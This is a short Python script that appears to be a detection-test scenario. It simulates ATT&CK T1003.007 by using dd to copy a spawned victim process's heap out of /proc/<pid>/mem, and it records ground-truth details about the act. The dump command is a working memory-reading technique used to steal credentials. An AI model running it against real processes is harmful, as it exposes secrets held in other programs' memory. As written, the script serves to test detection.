# SPDX-License-Identifier: Apache-2.0
"""ATT&CK T1003.007 with shell tools: dd copies the heap of a victim out of its mem file."""

import os
import shutil
import subprocess
import sys
import tempfile

from ground_truth import act, readable_regions, victim

PAGE = 4096

with victim("heap-owner") as process, tempfile.TemporaryDirectory() as directory:
    pid = process.pid
    start, end = next((start, end) for start, end, name in readable_regions(pid) if name == "[heap]")
    output = f"{directory}/dump"
    with act("dump_heap_dd", pid, path=f"/proc/{pid}/mem", flags="O_RDONLY") as truth:
        dd = subprocess.Popen(
            [
                "dd",
                f"if=/proc/{pid}/mem",
                f"of={output}",
                f"bs={PAGE}",
                f"skip={start // PAGE}",
                f"count={(end - start) // PAGE}",
                "status=none",
            ]
        )
        dd.wait()
        truth["actor_pid"] = dd.pid
        truth["executable"] = os.path.realpath(shutil.which("dd"))
    if os.path.getsize(output) != end - start:
        sys.exit("failed to copy the heap")
